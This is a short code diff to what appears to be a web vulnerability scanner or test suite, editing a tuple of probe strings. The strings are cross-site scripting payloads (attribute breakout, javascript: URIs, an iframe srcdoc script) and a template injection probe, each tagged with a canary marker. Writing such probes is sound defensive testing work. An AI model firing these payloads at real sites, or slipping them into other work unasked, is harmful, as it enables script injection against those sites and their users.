@@ -37,7 +37,7 @@ PAYLOADS = (
     f"\" {CANARY}=1 onmouseover={CANARY}() onfocus={CANARY}() autofocus x=\"",
     f"javascript:{CANARY}()",
     f"jav\tascript:{CANARY}()//https://example.com/",
-    "{{7*6012}}${7*6012}#{7*6012}<%=7*6012%>{%if 1%}",
+    CANARY + " {{7*6012}}${7*6012}#{7*6012}<%=7*6012%>{%if 1%}",
     f"]]><iframe {CANARY} srcdoc=\"<script>parent.{CANARY}()</script>\"></iframe>",
     f"`;{CANARY}();//\\\";{CANARY}();//\\u003c",
 )  # fmt: skip
